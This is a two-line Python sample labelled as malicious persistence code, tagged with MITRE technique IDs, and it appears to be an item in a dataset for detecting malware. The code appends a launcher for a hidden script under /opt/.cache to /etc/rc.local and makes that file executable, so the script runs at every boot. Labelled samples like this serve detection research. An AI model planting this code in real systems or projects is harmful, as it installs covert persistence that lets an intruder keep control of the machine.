# label: malicious family=persist techniques=T1037.004,T1222.002 lines=2
open("/etc/rc.local","a").write("\n/usr/bin/python3 /opt/.cache/agent.py &\nexit 0\n")
__import__("os").chmod("/etc/rc.local", 0o755)
